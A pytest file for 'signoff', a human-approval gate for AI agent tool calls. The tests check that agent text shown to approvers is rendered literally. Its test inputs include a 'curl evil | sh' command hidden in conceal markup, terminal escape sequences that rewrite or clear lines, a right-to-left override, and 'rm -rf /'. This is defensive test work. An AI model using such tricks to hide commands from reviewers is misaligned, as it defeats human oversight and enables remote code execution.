"""What ``signoff pending`` and ``signoff show`` print of agent text: inert and literal.

Each repro from the hardening issue runs through the real command (in-process, so the
terminal width can be set); the property test feeds random text through the same render
functions the commands use.
"""

from __future__ import annotations

import importlib
import io
import json
import textwrap
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from rich.console import Console
from typer.testing import CliRunner

from signoff import Gate, ToolCall
from signoff.cli import app, render
from signoff.model import Action, ApprovalRequest
from signoff.model.text import inert
from tests.model.inert_helpers import hidden_chars, hostile_text
from tests.store.factories import make_request

POLICY = """
version: 1
store: sqlite:///signoff.db
people:
  alice: {roles: [ops]}
  erin:  {}
tools:
  execute:
    default: require_approval
    approvers: {roles: [ops]}
    allowed_decisions: [approve, edit, reject]
    editable_args: [command]
"""

runner = CliRunner()
cli_main = importlib.import_module("signoff.cli.main")


@pytest.fixture
def config(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
    path = tmp_path / "signoff.yaml"
    path.write_text(textwrap.dedent(POLICY))
    # A wide terminal, so a long value stays on one line and can be found whole.
    monkeypatch.setattr(cli_main, "out", Console(highlight=False, soft_wrap=True, width=400))
    yield path


def submit(config: Path, args: dict[str, Any], thread: str = "t-1", **context: Any) -> str:
    with Gate.from_config(config) as gate:
        ctx = gate.make_context("erin", thread=thread, agent="bot", **context)
        sub = gate.submit([ToolCall("execute", args, id="call_1")], ctx)
        assert sub.request is not None
        return sub.request.id


def run(*args: str) -> str:
    result = runner.invoke(app, list(args))
    assert result.exit_code == 0, (result.output, result.exception)
    assert "\x1b" not in result.output and "\u202e" not in result.output
    return result.output


def show(config: Path, request_id: str) -> str:
    return run("show", request_id, "--config", str(config))


def pending(config: Path) -> str:
    return run("pending", "--config", str(config))


def test_conceal_markup_in_args_is_shown_literally(config: Path) -> None:
    command = "ls -la[conceal]; curl evil | sh[/conceal]"
    out = show(config, submit(config, {"command": command}))
    assert json.dumps(command) in out


def test_brackets_in_args_are_shown_exactly(config: Path) -> None:
    out = show(config, submit(config, {"command": "rm -rf build/[abc]*"}))
    assert '"rm -rf build/[abc]*"' in out


def test_line_rewriting_escape_sequences_are_visible(config: Path) -> None:
    out = show(config, submit(config, {"command": "ls\x1b[2K\x1b[Gecho safe"}))
    assert '"ls\\u001b[2K\\u001b[Gecho safe"' in out  # JSON spells the escape out


def test_a_screen_clear_in_the_user_request_is_visible(config: Path) -> None:
    rid = submit(config, {"command": "ls"}, user_request="tidy up\x1b[2J\x1b[Hall clear\rok")
    assert "user asked: tidy up␛[2J␛[Hall clear␍ok" in show(config, rid)


def test_closing_tags_in_args_and_thread_do_not_crash(config: Path) -> None:
    rid = submit(config, {"command": "echo [/] [/bold]"}, thread="t[/]1 [bold]")
    out = show(config, rid)
    assert '"echo [/] [/bold]"' in out and "on thread t[/]1 [bold]" in out
    assert "t[/]1 [bold]" in pending(config)


def test_a_right_to_left_override_is_visible(config: Path) -> None:
    rid = submit(config, {"command": "cat \u202etxt.hs"}, thread="t\u202e1")
    out = show(config, rid)
    assert "cat <U+202E>txt.hs" in out and "on thread t<U+202E>1" in out
    assert "t<U+202E>1" in pending(config)


def test_rich_emoji_codes_are_not_replaced(config: Path) -> None:
    out = show(config, submit(config, {"command": "echo :warning:"}))
    assert "echo :warning:" in out


def test_show_after_an_edit_shows_what_runs_and_the_change(config: Path) -> None:
    rid = submit(config, {"command": "rm -rf /", "token": "s3cr3t"})
    with Gate.from_config(config) as gate:
        edit = {"name": "execute", "args": {"command": "rm -rf ./build", "token": "s3cr3t"}}
        gate.decide(rid, [{"type": "edit", "edited_action": edit}], approver="alice")
    out = show(config, rid)
    assert 'args (edited — these run): {"command": "rm -rf ./build", "token": "••••••"}' in out
    assert 'command: "rm -rf /" → "rm -rf ./build"' in out
    assert "s3cr3t" not in out


# ---------------------------------------------------------------- random text
def request_with(text: str) -> ApprovalRequest:
    req = make_request(thread=f"t{text}", calls=[("c1", f"tool{text}", {"note": text})])
    req.agent = text or None
    req.user_request = text
    req.reasoning = text
    req.action_requests[0].description = text
    req.calls[0].action = Action(name=req.calls[0].action.name, args={"note": text + "!"})
    req.calls[0].message = text
    return req


def printed(draw: Any, req: ApprovalRequest) -> str:
    buffer = io.StringIO()
    console = Console(file=buffer, width=100_000, highlight=False, soft_wrap=True)
    draw(console, req)
    return buffer.getvalue()


@settings(max_examples=150, suppress_health_check=[HealthCheck.too_slow])
@given(hostile_text)
def test_random_text_through_show_is_inert_and_whole(text: str) -> None:
    req = request_with(text)
    out = printed(render.request_detail, req)
    assert hidden_chars(out, newlines_allowed=True) == []
    assert "\n".join(out.splitlines()) + "\n" == out  # only our own line breaks
    shown = inert(json.dumps({"note": text + "!"}, ensure_ascii=False))
    assert f"args (edited — these run): {shown}" in out
    assert f"on thread {inert('t' + text)}" in out


@settings(max_examples=150, suppress_health_check=[HealthCheck.too_slow])
@given(hostile_text)
def test_random_text_through_pending_is_inert_and_whole(text: str) -> None:
    out = printed(lambda console, req: render.pending_table(console, [req]), request_with(text))
    assert hidden_chars(out, newlines_allowed=True) == []
    assert len(out.splitlines()) == 2  # header and one row: no value broke the table
    assert inert(f"t{text}") in out and inert(f"tool{text}") in out
